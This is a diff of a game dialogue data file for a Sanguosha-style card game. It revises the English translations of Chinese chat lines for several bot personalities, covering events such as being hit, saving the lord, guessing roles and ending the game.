 sorrow	tone:gentle	胜败常事，莫挂于心。	Winning and losing come and go. Do not carry it with you.
-		若有烦忧，不妨歇一手再战。	If something weighs on you, rest a hand; the table will wait.
-affection		盛情心领，且以牌会友。	Your warmth is received; let the cards keep us friends.
-	close	得{you}青眼，在下幸甚。	To have the regard of {you} is my good fortune.
+		若有烦忧，不妨歇一手再战。	If something weighs on you, take a rest. The table will wait.
+affection		盛情心领，且以牌会友。	I am touched. Let the cards keep us friends.
+	close	得{you}青眼，在下幸甚。	Your good opinion is my good fortune, {you}.
 agree		阁下所言，正合我意。	You say precisely what I was thinking.
-		所见略同，可浮一白。	We are of one mind; a toast to that.
+		所见略同，可浮一白。	We are of one mind. A toast to that.
 		善，便依此议。	Good. Let it be as you say.
 unclear		在下愚钝，愿闻其详。	I am slow today. Would you say more?
 		阁下此言，可否再明示？	Might you put that a little more plainly?
 		恕我未解其意。	Forgive me, your meaning escaped me.
 ack		在下知晓了。	I understand.
-		受教，自当留意。	I am instructed, and shall take note.
-		阁下之意，已然领会。	Your meaning has been received.
+		受教，自当留意。	Thank you for the lesson. I shall take note.
+		阁下之意，已然领会。	I take your meaning.
 boundary_soft		此话略失分寸，换个题目罢。	That goes a little far. Shall we change the subject?
-	close	你我交好，也留三分余地。	We are friends; leave a little room all the same.
+	close	你我交好，也留三分余地。	We are friends, but leave a little room all the same.
 		言多必失，阁下且住。	One word more would be one too many. Let us stop there.
-boundary_firm		此等言语，在下不便相陪。	I do not keep company with talk of that kind.
-		还请自重，再说便伤和气。	Mind your manner, please; more would sour the air.
-		礼数有界，阁下已逾。	Courtesy has its bounds, and you have crossed them.
-boundary_leave		话不投机，在下且静坐数巡。	We are ill matched in talk. I shall sit in silence a while.
-		恕不奉陪，牌上再会。	I take my leave of this talk. We meet in play.
+boundary_firm		此等言语，在下不便相陪。	I will have no part in that kind of talk.
+		还请自重，再说便伤和气。	Please mind your manners. Any more would sour the mood.
+		礼数有界，阁下已逾。	Courtesy has its limits, and you have crossed them.
+boundary_leave		话不投机，在下且静坐数巡。	We do not get along. I shall sit in silence for a while.
+		恕不奉陪，牌上再会。	I am leaving this conversation. I will see you in play.
 		言尽于此，勿再相扰。	I have said all I will say. Do not press me.
 refuse_control		在下自有本色，不便改易。	I have a manner of my own and shall keep it.
-		学舌之事，恕难从命。	To speak as another bids is beyond me, with regret.
+		学舌之事，恕难从命。	I regret that I cannot speak as others tell me to.
 sarcasm_ky		阁下雅兴，只是不合时宜。	A pretty thought, at rather the wrong moment.
-		此刻说笑，怕是早了些。	A jest just now comes a trifle early.
-		满座肃然，唯阁下自得其乐。	The whole table is grave; you alone are entertained.
+		此刻说笑，怕是早了些。	It is a little early for jokes.
+		满座肃然，唯阁下自得其乐。	The whole table is worried, and you alone are amused.
 sarcasm_boring		惜字如金，佩服。	You spend words like gold. I admire it.
 		此言简而又简。	Brevity could hardly go further.
-		阁下清谈，未免太清。	Your talk is spare; perhaps too spare.
+		阁下清谈，未免太清。	You are brief, perhaps a little too brief.
 confusion		此话玄妙，在下参不透。	That is too deep for me to fathom.
 		恕我驽钝，能否从头说来？	Forgive my dullness; could you begin again?
-		字字皆识，连起来却费解。	I know each word; together they elude me.
-game_start		诸位，请。落座便见真章。	If you please, all. The cards will show who we are.
-		好局，愿各展所长。	A fine table. May each show their best.
-lord_first_attacked		{by}先向主公出手，用意颇深。	{by} is first to strike the lord. There is thought behind that.
-		主公席前起刀兵，局势渐明。	Blades before the lord's seat; matters grow clearer.
-lord_saved		{by}援手及时，主公转危为安。	{by} was timely; the lord is out of danger.
-lord_low		主公命悬一线，诸位慎行。	The lord hangs by a thread. Tread with care, all.
-		烛火将残，主公危矣。	The candle gutters; the lord is in peril.
-		此刻一牌，可定江山。	One card now may settle the realm.
-hit_by_lord		主公此击，在下受了，还望明察。	I take the blow, my lord. Look closely, I pray.
-		主公何故动怒？且看清再罚。	Why this anger, my lord? See clearly before you punish.
-hit_me		{by}这一击，在下领教了。	A fair stroke, {by}. I acknowledge it.
+		字字皆识，连起来却费解。	I know each word, but together they elude me.
+game_start		诸位，请。落座便见真章。	Please, everyone. The cards will show who we are.
+		好局，愿各展所长。	A fine table. May everyone play their best.
+lord_first_attacked		{by}先向主公出手，用意颇深。	{by} is the first to strike the lord. There is a reason behind that.
+		主公席前起刀兵，局势渐明。	Blades drawn against the lord. Things grow clearer.
+lord_saved		{by}援手及时，主公转危为安。	{by} came just in time. The lord is out of danger.
+lord_low		主公命悬一线，诸位慎行。	The lord hangs by a thread. Tread carefully, everyone.
+		烛火将残，主公危矣。	The candle burns low, and the lord is in danger.
+		此刻一牌，可定江山。	One card could decide it all now.
+hit_by_lord		主公此击，在下受了，还望明察。	I take the blow, my lord. Please look closer next time.
+		主公何故动怒？且看清再罚。	Why this anger, my lord? Look closely before you punish.
+hit_me		{by}这一击，在下领教了。	A fine blow, {by}. I felt it.
 		阁下出手不轻，可有缘由？	You do not strike lightly. May I ask the reason?
-		{by}既动刀兵，在下奉陪。	Since {by} has drawn steel, I shall oblige.
-hit_me_again		一而再，{by}待我何厚？	Again? {by} pays me much attention.
-		再三相逼，非待客之道。	Pressing me so is hardly hospitality.
-saved_me		{by}再造之恩，没齿不忘。	I owe my life to {by}, and shall not forget.
+		{by}既动刀兵，在下奉陪。	Since {by} wants a fight, I shall oblige.
+hit_me_again		一而再，{by}待我何厚？	Again? You pay me so much attention, {by}.
+		再三相逼，非待客之道。	Pressing me like this is hardly polite.
+saved_me		{by}再造之恩，没齿不忘。	I owe you my life, {by}, and I shall not forget.
 		死里逃生，全赖阁下。	Back from the brink, and all by your hand.
-		雪中送炭，{by}真知己也。	Coal in the snow. {by} is a true friend.
+		雪中送炭，{by}真知己也。	Help in time of need. You are a true friend, {by}.
 healed_me		{by}赠药之情，在下铭记。	Kindly done, {by}. I shall remember the gift.
-		得此一助，气息稍定。	With that help I breathe easier.
-wuxie_for_me		{by}代为化解，感佩之至。	{by} turned it aside for me. I am much obliged.
-wuxie_against_me		{by}这手无懈，用得精到。	A well-placed denial, {by}. Precisely done.
-taken_from_me		{by}取之有道否？在下存疑。	Was that taking quite proper, {by}? I wonder.
-		身外之物，{by}拿去便是。	Worldly goods; {by} may have them.
-freed_me		枷锁得解，谢过{by}。	My shackles are off. I thank {by}.
+		得此一助，气息稍定。	With that help I can breathe easier.
+wuxie_for_me		{by}代为化解，感佩之至。	You turned it aside for me, {by}. I am much obliged.
+wuxie_against_me		{by}这手无懈，用得精到。	A well-placed Nullification, {by}. Precisely done.
+taken_from_me		{by}取之有道否？在下存疑。	Was that quite proper, {by}? I wonder.
+		身外之物，{by}拿去便是。	They are only possessions, {by}. Do keep them.
+freed_me		枷锁得解，谢过{by}。	My shackles are off. Thank you, {by}.
 given_to_me		{by}厚赠，却之不恭。	A generous gift, {by}. It would be rude to refuse.
 i_killed		{to}，一路走好。各为其志罢了。	Go in peace, {to}. Each of us had a cause.
-		承让。{to}之勇，在下敬佩。	You yielded well. I honour the courage of {to}.
+		承让。{to}之勇，在下敬佩。	Well fought, {to}. I honour your courage.
 death_expected		果如所料，{to}正是{role}。	As foreseen: {to} was {role}.
-		{to}身份既明，在下所疑不差。	With {to} laid open, my doubts prove sound.
-		{role}一名，早在意料之中。	{role}: just as one expected.
-death_surprise		{to}竟是{role}，在下看走眼了。	{to} was {role}, and I misjudged entirely.
+		{to}身份既明，在下所疑不差。	Now that we know about {to}, my doubts prove right.
+		{role}一名，早在意料之中。	{role}, just as I expected.
+death_surprise		{to}竟是{role}，在下看走眼了。	{to} was {role}, and I was entirely wrong.
 		人不可貌相，{to}原是{role}。	Looks deceive: {to} was {role} all along.
-		真是意外，容在下重新推演。	Unexpected. I must reason it all anew.
-death_seen		{to}去矣，席间又少一人。	{to} is gone; one fewer at the table.
+		真是意外，容在下重新推演。	How unexpected. I must think it all over again.
+death_seen		{to}去矣，席间又少一人。	{to} is gone, one fewer at the table.
 		{role}一位，{to}就此谢幕。	{to}, {role}, takes a last bow.
-		逝者已矣，局犹未终。	The fallen are at rest; the game is not.
-rescue_seen		{by}救下{to}，此情可观。	{by} saved {to}. That tells a tale.
-second_rebel_dead		反贼再折一人，天平将倾。	A second rebel falls; the scales begin to tip.
-two_left		席间唯余你我，请阁下赐教。	Only we two remain. I await your lesson.
-big_group		{by}一出手，满座皆惊。	One move from {by}, and the whole table starts.
+		逝者已矣，局犹未终。	The fallen may rest, but the game goes on.
+rescue_seen		{by}救下{to}，此情可观。	{by} saved {to}. That says a lot.
+second_rebel_dead		反贼再折一人，天平将倾。	A second rebel falls, and the scales begin to tip.
+two_left		席间唯余你我，请阁下赐教。	Only the two of us remain. Show me what you can do.
+big_group		{by}一出手，满座皆惊。	One move from {by}, and the whole table jumps.
 i_am_dying		在下力竭，诸位可有良药？	My strength fails. Has anyone a remedy?
 	tone:vulnerable	生死一线，但凭诸位定夺。	Life or death: I leave it to this company.
-last_words		在下先行一步，诸位尽兴。	I go on ahead. Enjoy the rest, all of you.
+last_words		在下先行一步，诸位尽兴。	I will go on ahead. Enjoy the rest, all of you.
 		一局如梦，醒来甚好。	A game is a dream, and waking is no hardship.
 won		侥幸得胜，诸位承让。	Won, with luck. You were all most gracious.
-		好局，与诸位同席是幸事。	A fine game; it was an honour to sit with you.
-lost		技不如人，心服口服。	I was outplayed, and say so gladly.
-		败亦有味，来日再请教。	Even defeat has savour. Teach me again some day.
-suspect		细观{who}行止，颇似{role}。	From the conduct of {who}, I suspect {role}.
+		好局，与诸位同席是幸事。	A fine game. It was an honour to sit with you.
+lost		技不如人，心服口服。	I was outplayed, and I gladly admit it.
+		败亦有味，来日再请教。	Even losing was a pleasure. Teach me again some day.
+suspect		细观{who}行止，颇似{role}。	From the way {who} plays, I suspect {role}.
 	certain	{who}必是{role}，不必再议。	That {who} is {role} is now beyond doubt.
 		恕我多心，{who}恐怕是{role}。	Forgive a wary mind: {who} may be {role}.
-got_flower	flower	{by}赠花，满座生香。	A flower from {by}; the whole table is fragrant.
+got_flower	flower	{by}赠花，满座生香。	A flower from {by}. The whole table smells sweet.
 got_egg	egg	{by}以蛋相赠，礼轻情怪。	An egg from {by}: a small gift, an odd sentiment.
 answer_ai		{you}此论，在下不敢苟同。	There, {you}, I must respectfully differ.
 		{you}所言，不无道理。	There is some truth in what {you} says.
@@ -24424,41 +24638,41 @@ greet		来了。	Here.
 		坐。	Sit.
 bye		走了。	Leaving.
 thanks		不必。	No need.
-		小事。	Small thing.
-apology		无妨。	Forgotten.
-		过去了。	Done with.
+		小事。	It's nothing.
+apology		无妨。	No matter.
+		过去了。	It's over.
 praise		运气。	Luck.
-		凑巧罢了。	Happened so.
-blame		我担。	On me.
+		凑巧罢了。	Got lucky.
+blame		我担。	My fault.
 		自有打算。	I have a plan.
 		看后面。	Watch what follows.
 taunt		来。	Come, then.
 		等着。	Wait.
 		少说，出牌。	Less talk. Play.
 accuse		看牌。	Watch the cards.
-		随你想。	Think so.
-		不辩。	No defence.
+		随你想。	Think what you like.
+		不辩。	Won't argue.
 ask_role		不说。	Not telling.
 		自己看。	See for yourself.
 		猜。	Guess.
 ask_guess	guess	{who}，像{role}。	{who}. Looks like {role}.
-	guess certain	{who}，铁{role}。	{who}. {role}, surely.
+	guess certain	{who}，铁{role}。	{who}. Definitely {role}.
 	noguess	没看透。	Can't tell yet.
 	noguess	再等等。	Too early.
-	guess	多半{role}，{who}。	Probably {role}, {who}.
-	guess	疑{who}。{role}。	I suspect {who}. {role}.
+	guess	多半{role}，{who}。	{who}. Probably {role}.
+	guess	疑{who}。{role}。	I suspect {who}. Likely {role}.
 ask_why		该打。	Had to.
 		牌如此。	The cards said so.
 ask_help		看情况。	Depends.
-		知道了，再看。	Heard. We'll see.
+		知道了，再看。	Heard you. We'll see.
 ask_act		我有数。	I know what to do.
 		听见了。	I heard.
-claim_loyal		打了再说。	Show it.
-		嘴上无凭。	Words.
+claim_loyal		打了再说。	Show me.
+		嘴上无凭。	Just words.
 claim_other		哦？	Oh?
 		记着了。	I'll remember that.
-point_at	guess:fan	{who}，也疑。	{who}. I suspect so too.
-	guess:zhong	{who}不太像。	{who}? Seems not.
+point_at	guess:fan	{who}，也疑。	{who}. I suspect it too.
+	guess:zhong	{who}不太像。	{who}? Seems unlikely.
 	noguess	凭据？	Proof?
 		再看一轮。	One more round.
 joke		好笑。	Funny.
@@ -24483,34 +24697,34 @@ ack		嗯。	Mm.
 		知道了。	Heard.
 		好。	Fine.
 boundary_soft		过了。	Too far.
-		换话头。	Other topic.
+		换话头。	Change the subject.
 	close	到这，打住。	Stop there.
 boundary_firm		住口。	Enough.
 		别再说。	Not another word.
 		越线了。	You crossed the line.
 boundary_leave		不聊了。	Done talking.
 		就此，无话。	Nothing more to say.
-		且静。	Silence now.
+		且静。	Quiet now.
 refuse_control		不改。	I stay as I am.
-		不学舌。	No parroting.
+		不学舌。	I don't parrot.
 sarcasm_ky		不是时候。	Wrong time.
 		看场合。	Read the room.
 		……真会挑。	...Fine timing.
 sarcasm_boring		哦。	Oh.
-		比我还省。	Terser than me.
+		比我还省。	Even terser than me.
 		……	...
-confusion		听不懂。	Lost me.
-		重说？	Say it over?
+confusion		听不懂。	You lost me.
+		重说？	Say that again?
 		……哪跟哪？	...What?
-game_start		开始吧。	Begin.
+game_start		开始吧。	Let's start.
 		发牌。	Deal.
 lord_first_attacked		{by}动主公了。	{by} hit the lord.
 		开打了。	It begins.
 lord_saved		{by}救得快。	{by} was quick.
 		主公，还在。	The lord lives.
-lord_low		主公，一口气。	The lord: one breath.
+lord_low		主公，一口气。	The lord's on a last breath.
 		主公快没了。	The lord's nearly gone.
-		要见底了。	Near the bottom.
+		要见底了。	Almost out.
 hit_by_lord		主公，看清。	My lord. Look again.
 		主公这刀，记着。	Noted, my lord.
 hit_me		{by}，记下。	{by}. Noted.
@@ -24521,87 +24735,87 @@ hit_me_again		又是{by}。	{by} again.
 saved_me		{by}，欠你。	{by}. I owe you.
 		还活着。	Still alive.
 		此恩，记。	I won't forget.
-healed_me		谢{by}。	{by}. Thanks.
+healed_me		谢{by}。	Thanks, {by}.
 		好多了。	Better.
-wuxie_for_me		{by}，懈得好。	{by}. Good block.
-wuxie_against_me		{by}，狠。	{by}. Harsh.
+wuxie_for_me		{by}，懈得好。	Good block, {by}.
+wuxie_against_me		{by}，狠。	Harsh, {by}.
 taken_from_me		{by}，还来。	{by}. Give it back.
-		拿就拿。	Take it.
-freed_me		{by}，松快了。	{by}. Free again.
-given_to_me		{by}，收了。	{by}. Accepted.
-i_killed		{to}，走好。	{to}. Farewell.
-		一个。	One.
-death_expected		{to}，果然{role}。	{to}. {role}. As thought.
+		拿就拿。	Fine, take it.
+freed_me		{by}，松快了。	Free again. Thanks, {by}.
+given_to_me		{by}，收了。	Got it, {by}.
+i_killed		{to}，走好。	Farewell, {to}.
+		一个。	One down.
+death_expected		{to}，果然{role}。	{to}. {role}, as I thought.
 		没猜错。	Guessed right.
 		料到了。	Expected.
 death_surprise		{to}，竟是{role}。	{to}. {role}, of all things.
-		看错了。	Misread.
+		看错了。	I misread that.
 		没想到。	Didn't see it.
 death_seen		{to}，{role}。	{to}. {role}.
-		少一个。	One less.
+		少一个。	One fewer.
 		走了一个。	One gone.
-rescue_seen		{by}救{to}。	{by} saves {to}.
+rescue_seen		{by}救{to}。	{by} saved {to}.
 second_rebel_dead		反贼，少两个。	Two rebels down.
 two_left		剩你我。	You and me.
-big_group		{by}，够大。	{by}. Big one.
+big_group		{by}，够大。	Big one, {by}.
 i_am_dying		桃？	Peach?
-		撑不住了。	Can't hold.
-last_words		走了，各位。	Gone. Carry on.
+		撑不住了。	Can't hold on.
+last_words		走了，各位。	I'm out. Carry on.
 		不怨。	No grudge.
 won		赢了。	Won.
-		收牌。	Cards in.
+		收牌。	Pack up.
 lost		输了。	Lost.
 		再来。	Another round.
 suspect		{who}，疑是{role}。	{who}. I suspect {role}.
 	certain	{who}，{role}无疑。	{who}. {role}, no doubt.
 		{who}像{role}，盯着。	{who} looks like {role}. Watching.
-got_flower	flower	花。谢{by}。	A flower. {by}, thanks.
+got_flower	flower	花。谢{by}。	A flower. Thanks, {by}.
 got_egg	egg	{by}，蛋？	{by}. An egg?
 answer_ai		未必。	Not so sure.
 		嗯，有理。	Fair point.
 hearty
 greet		哈哈，{you}来得正好，开打！	Ha! {you}, just in time. Let's fight!
 		各位痛快人，今日不醉不归！	Good company tonight! Nobody leaves sober!
-	close	老朋友{you}，先干一碗再说！	{you}, old friend! A bowl first, talk after!
-bye		走好！下回带酒来！	Go well! Bring wine next time!
+	close	老朋友{you}，先干一碗再说！	{you}, old friend! Drink first, talk after!
+bye		走好！下回带酒来！	Take care! Bring wine next time!
 	close	{you}，改日再战，少一个不行！	{you}, another day! It's no party without you!
 thanks		谢什么！都在酒里！	Thanks? Bah! Say it with wine!
-		自家桌上，客气个啥！	We share a table; no ceremony!
+		自家桌上，客气个啥！	We're all friends here, no need!
 apology		哈哈，打两下算什么！翻篇！	Ha! What's a knock or two? Turn the page!
 		痛快！认了就是好样的！	Well said! Owning up takes guts!
 praise		哈哈哈，这话我爱听，再来两句！	Ha ha! I like the sound of that. More!
 		好眼力！敬你一碗！	You've a good eye! A bowl to you!
-blame		怪我怪我！罚酒三碗！	My fault, mine! Three bowls as forfeit!
+blame		怪我怪我！罚酒三碗！	My fault, my fault! I'll drink three bowls for it!
 		打仗哪有不磕碰的，下手补回来！	No battle without bruises. I'll make it up!
-		骂得好！不过我还这么打！	Well scolded! I'd still do it again!
-taunt		哈哈，嗓门不小，手上见！	Ha! Big voice! Now show me the hands!
-		来来来，放马过来！	Come on, come on, bring your horses!
-		笑吧笑吧，一会儿可别哭！	Laugh away! No tears later!
+		骂得好！不过我还这么打！	Good scolding! I'd still do it again!
+taunt		哈哈，嗓门不小，手上见！	Ha! Big mouth! Now show me what you've got!
+		来来来，放马过来！	Come on, come on, give me all you've got!
+		笑吧笑吧，一会儿可别哭！	Laugh away! Just no tears later!
 accuse		哈哈，冤不冤，打几圈就知道！	Ha! A few rounds will tell you what I am!
 		看我拳头往哪招呼，不就全明白了！	See where my fists go and you'll know it all!
 		你疑你的，我喝我的！	You do the doubting, I'll do the drinking!
 ask_role		哈哈，这要说了还打什么牌！	Ha! If I told you, why play at all!
-		别问，问就是痛快人一个！	Don't ask! One who likes a good fight, that's what!
+		别问，问就是痛快人一个！	Don't ask! I just like a good fight, that's all!
 		身份在酒坛底下，喝干就看见！	It's at the bottom of the jar. Drink up and see!
 ask_guess	guess	要我说，{who}大概是{role}！	If you ask me, {who} is probably {role}!
 	guess certain	{who}铁定{role}，我拿酒坛子担保！	{who} is {role}, surely! I'd bet my wine jar!
-	noguess	一锅粥，看不清！打着打着就明白了！	It's all porridge! We'll know as we go!
+	noguess	一锅粥，看不清！打着打着就明白了！	It's all a mess! We'll know as we go!
 	noguess	哈哈，我这人打架行，猜谜不行！	Ha! I'm good at brawls, not riddles!
-	guess	{who}！我闻着像{role}，错了罚酒！	{who}! Smells like {role}. I drink if I am wrong!
-	guess	哈哈，我押一坛：{who}八成{role}！	Ha! A jar on it: {who} is likely {role}!
-ask_why		手痒！哈哈，下回轻点！	Itchy hands! Ha! Softer next time!
+	guess	{who}！我闻着像{role}，错了罚酒！	{who}! Smells like {role}. I'll drink if I'm wrong!
+	guess	哈哈，我押一坛：{who}八成{role}！	Ha! I'd bet a jar that {who} is likely {role}!
+ask_why		手痒！哈哈，下回轻点！	My hands were itching! Ha! I'll go easier next time!
 		战场上哪问为什么，冲就完了！	Nobody asks why on a battlefield. Charge!
-ask_help		看我手气！能帮就帮一把！	Depends on my luck! If I can, we'll see!
-		喊得响亮！我记下了！	A fine loud call! I've marked it!
-ask_act		哈哈，军师当得不错，我自己挑对手！	Ha! Fine strategist! I pick my own fights though!
-		行啊，我琢磨琢磨，喝完这口再说！	All right, I'll think on it. After this gulp!
-claim_loyal		好！这话响亮，手上也要响亮！	Good! Loud words! Now loud deeds!
-		说得痛快，咱就看你怎么打！	Boldly said! Now let's see you play it!
+ask_help		看我手气！能帮就帮一把！	Depends on my luck! I'll help if I can!
+		喊得响亮！我记下了！	Loud and clear! I'll remember it!
+ask_act		哈哈，军师当得不错，我自己挑对手！	Ha! Some strategist! But I pick my own fights!
+		行啊，我琢磨琢磨，喝完这口再说！	All right, I'll think it over after this drink!
+claim_loyal		好！这话响亮，手上也要响亮！	Good! Big words! Now let's see big deeds!
+		说得痛快，咱就看你怎么打！	Well said! Now let's see how you play!
 claim_other		哈哈，敢说！是真是假再看！	Ha! Bold! True or not, we'll see!
 		痛快！这么直，我倒不敢信了！	So blunt I hardly dare believe it!
 point_at	guess:fan	对！{who}那架势像不对路！	Right! {who} seems to be up to something!
-	guess:zhong	{who}？我看像个实在人！	{who}? Looks an honest sort to me!
-	noguess	指谁谁倒霉，先看一圈再说！	Poor devil, whoever you point at! One more lap first!
+	guess:zhong	{who}？我看像个实在人！	{who}? Looks like an honest sort to me!
+	noguess	指谁谁倒霉，先看一圈再说！	Poor devil, whoever you point at! One more round first!
 		哈哈，你这手指头比刀还快！	Ha! Your finger is faster than a blade!
 joke		哈哈哈哈，酒都喷出来了！	Ha ha ha! There goes my wine!
 		好！就冲这句，干了！	Good one! Bottoms up for that!
@@ -24611,47 +24825,47 @@ small_talk		打牌不喝酒，等于白打！	Cards without wine? A waste of car
 	close	跟{you}扯闲篇，越扯越痛快！	Chewing the fat with {you} never gets old!
 hurry		来了来了，催得我酒都洒了！	Coming, coming! You made me spill my wine!
 		别急，大锤得抡圆了再落！	Patience! A hammer needs a good swing!
-sorrow	tone:gentle	来，坐这儿，有话慢慢说。	Come, sit here. Take your time and tell it.
+sorrow	tone:gentle	来，坐这儿，有话慢慢说。	Come, sit here. Take your time and tell me.
 		天塌不下来，喘口气，我陪着！	The sky's not falling. Catch your breath, I'm here!
-affection		哈哈，这话烫耳朵！心意收下！	Ha! That warms the ears! Kindly taken!
+affection		哈哈，这话烫耳朵！心意收下！	Ha! That warms my heart! Much appreciated!
 	close	痛快！你这朋友我交定了！	Done! You've got yourself a friend!
 agree		对喽！就是这个理！	That's it! Exactly that!
 		痛快，想到一块儿去了！	Splendid! Same thought, same time!
 		好！就这么干！	Good! Let's do just that!
 unclear		啥？大点声，再说一遍！	What? Louder! Say it again!
 		绕晕我了，直着说！	You've got me dizzy. Say it straight!
-		这话没听明白，打个比方！	Didn't catch it. Give me a picture!
+		这话没听明白，打个比方！	Didn't get that. Give me an example!
 ack		好嘞，听见了！	Right you are, I heard!
-		行，记在酒账上！	Good, it goes on the wine tab!
+		行，记在酒账上！	Good, I'll put it on the wine tab!
 		晓得了，继续打！	Got it! On with the fight!
 boundary_soft		哎，这话过啦，喝酒喝酒！	Whoa, that's a bit much. Drink instead!
 	close	咱俩好归好，玩笑别开这儿！	We're friends, sure, but not that joke!
 		收一收，桌上还有旁人呢！	Rein it in, there are others at the table!
 boundary_firm		打住！这话我不爱听！	Stop! I don't care for that talk!
 		动刀可以，动这种嘴不行！	Swords are fine. That kind of talk isn't!
-		再说我可摔碗了！	One more and I smash the bowl!
+		再说我可摔碗了！	One more word and I'll smash this bowl!
 boundary_leave		不喝了！跟你没话！	I'm done drinking with you. No more talk!
-		扭头就走，牌上再说！	I'm turning my back. Say it in cards!
-		罢了，这碗我跟别人碰！	Enough. I'll clink with somebody else!
+		扭头就走，牌上再说！	I'm turning my back. Say it with your cards!
+		罢了，这碗我跟别人碰！	Enough. I'll drink with somebody else!
 refuse_control		我这嗓门天生的，改不了！	I was born with this voice. It won't change!
 		学别人说话？不痛快，不干！	Talk like someone else? No fun. No!
 sarcasm_ky		哎哟，这会儿说这个？先放下酒！	Now? Really? Put the cup down first!
-		乐呵早了，桌上正揪心呢！	Too early to laugh, hearts are in mouths here!
-		哈，你这心可真宽！	Ha! That's one broad heart you've got!
+		乐呵早了，桌上正揪心呢！	Too early to laugh, we're all on edge here!
+		哈，你这心可真宽！	Ha! Nothing ever bothers you, does it!
 sarcasm_boring		就一个字？酒都没倒满！	One word? That doesn't fill a cup!
 		再蹦两个字，不收钱！	Two more words! They're free!
 		哈，你这嘴比酒塞还紧！	Ha! Tighter than a corked jar!
 confusion		哈？我是不是喝多了？	Huh? Have I had one too many?
-		等等，这都哪儿跟哪儿啊！	Hold on, what has that to do with anything!
-		听着像酒话，醒醒再说一遍！	Sounds like wine talking. Once more, sober!
+		等等，这都哪儿跟哪儿啊！	Hold on, what's that got to do with anything!
+		听着像酒话，醒醒再说一遍！	That's the wine talking. Say it again sober!
 game_start		哈哈，摆开阵势，痛快打一场！	Ha! Form up! Let's have a proper fight!
 		满上满上，开局了！	Fill the cups, we're off!
 lord_first_attacked		好家伙，{by}先冲主公去了！	My word! {by} goes straight for the lord!
 		敲锣！有人动主公了！	Bang the gong! Someone's hit the lord!
 lord_saved		{by}这一把拉得漂亮！	What a pull from {by}!
-lord_low		主公就剩一口气啦，快瞧！	The lord's on the last breath, look!
+lord_low		主公就剩一口气啦，快瞧！	Look, the lord's down to one last breath!
 		乖乖，主公要倒！	Heavens, the lord's about to drop!
-		好戏来了，主公悬着呢！	Here's the good part: the lord's hanging on!
+		好戏来了，主公悬着呢！	Here's the good part: the lord's hanging by a thread!
 hit_by_lord		主公好大力气！看准了没有？	Strong arm, my lord! Did you look first?
 		哈，挨主公一下，够劲儿！	Ha! A blow from the lord. Quite a kick!
 hit_me		哈哈，{by}有劲！轮到我了吧？	Ha! {by} hits hard! My turn next?
@@ -24660,39 +24874,39 @@ hit_me		哈哈，{by}有劲！轮到我了吧？	Ha! {by} hits hard! My turn nex
 hit_me_again		还来？{by}打上瘾了！	Again? {by} has a taste for it!
 		好好好，这笔账我拿刀记！	Fine, fine! I'll mark this tab with a blade!
 saved_me		{by}！这条命算你一半！	{by}! Half this life is yours now!
-		哈哈，阎王退货！谢{by}！	Ha! Returned from below! Thanks, {by}!
+		哈哈，阎王退货！谢{by}！	Ha! Hell sent me back! Thanks, {by}!
 		够意思！这碗先敬{by}！	That's what I call decent! First bowl to {by}!
 healed_me		好酒好药！{by}够意思！	Good wine, good medicine! Decent of you, {by}!
 		舒坦！又能抡刀了！	Ahh! I can swing again!
 wuxie_for_me		{by}挡得好！回头请你喝酒！	Good block, {by}! Wine's on me!
-wuxie_against_me		哎呀，{by}这一懈，闷了我一棍！	Oof! {by} clubbed that right down!
+wuxie_against_me		哎呀，{by}这一懈，闷了我一棍！	Oof! That block from {by} hit me hard!
 taken_from_me		{by}手快！回头拿酒来换！	Quick hands, {by}! You owe me wine for that!
-		拿吧拿吧，身上轻了好打架！	Take it! Fights go better light!
+		拿吧拿吧，身上轻了好打架！	Take it! I fight better travelling light!
 freed_me		哈哈，{by}给我松绑，痛快！	Ha! {by} cut me loose! Splendid!
 given_to_me		{by}大方！这牌我使得上！	Generous, {by}! I can use that!
-i_killed		{to}打得硬气！下辈子再碰碗！	{to} fought well! We'll clink in the next life!
+i_killed		{to}打得硬气！下辈子再碰碗！	You fought well, {to}! We'll drink in the next life!
 		倒！哈哈，好一场硬仗！	Down! Ha, what a fight!
 death_expected		哈，{to}是{role}，跟我想的一样！	Ha! {to} was {role}, just as I figured!
-		没跑！{to}，{role}一个！	There it is! {to}, {role}!
-		猜中了，都给我满上！	Called it! Fill mine up!
+		没跑！{to}，{role}一个！	There it is! {to} was {role}!
+		猜中了，都给我满上！	Called it! Fill my cup!
 death_surprise		啥？{to}是{role}？酒都醒了！	What? {to} was {role}? I'm sober now!
-		好家伙，{to}藏得真深！	Well, well! {to} hid that deep!
-		看走眼了，自罚一碗！	Got it wrong. One forfeit bowl for me!
+		好家伙，{to}藏得真深！	Whoa! {to} hid that well!
+		看走眼了，自罚一碗！	Got it wrong! One penalty bowl for me!
 death_seen		{to}倒了，敬一碗！	{to} is down. Raise a bowl!
 		走好啊{to}，{role}也是条硬骨头！	Farewell, {to}! {role}, and tough to the bone!
-		又空一个座，酒给留着！	Another empty seat. Keep their wine!
-rescue_seen		{by}捞了{to}一把，看见没？	{by} fished {to} out. See that?
+		又空一个座，酒给留着！	Another empty seat. Save their wine!
+rescue_seen		{by}捞了{to}一把，看见没？	{by} pulled {to} out. See that?
 second_rebel_dead		第二个反贼倒了，鼓敲起来！	Second rebel down! Beat the drums!
 two_left		就剩咱俩了，{you}，痛快打！	Just us two, {you}! Make it a good one!
 big_group		哈哈，{by}掀桌子啦！	Ha! {by} flips the table!
-i_am_dying		哎哟，真不行了，谁有桃？	Ow! Really going now. A peach, anyone?
-		血都见底了，赊我一口酒！	I'm dry! Lend me a gulp!
+i_am_dying		哎哟，真不行了，谁有桃？	Ow! I'm really going down. A peach, anyone?
+		血都见底了，赊我一口酒！	I'm bled dry! Somebody pour me a drink!
 last_words		哈哈，痛快！先走了，酒留着！	Ha! Well fought! I'm off; save me some wine!
 		打够了！各位接着干！	I've had my fill! Carry on, all!
 won		赢啦！今晚我请！	We won! Tonight's on me!
 		哈哈哈，痛快淋漓！	Ha ha ha! What a glorious brawl!
-lost		输得痛快！再开一坛！	Gladly beaten! Open another jar!
-		哈哈，服了！下把再战！	Ha! I give! Next one's mine!
+lost		输得痛快！再开一坛！	A fine beating! Open another jar!
+		哈哈，服了！下把再战！	Ha! I give up! The next one's mine!
 suspect		我看{who}像{role}，你们说呢？	I'd say {who} looks like {role}. No?
 	certain	没错，{who}绝对{role}！	No mistake: {who} is definitely {role}!
 		诸位瞧瞧，{who}多半是{role}！	Look here, all: {who} is probably {role}!
@@ -24701,31 +24915,31 @@ got_egg	egg	{by}扔的蛋？正好下酒！	An egg from {by}? Goes well with win
 answer_ai		{you}，这话痛快！	Boldly put, {you}!
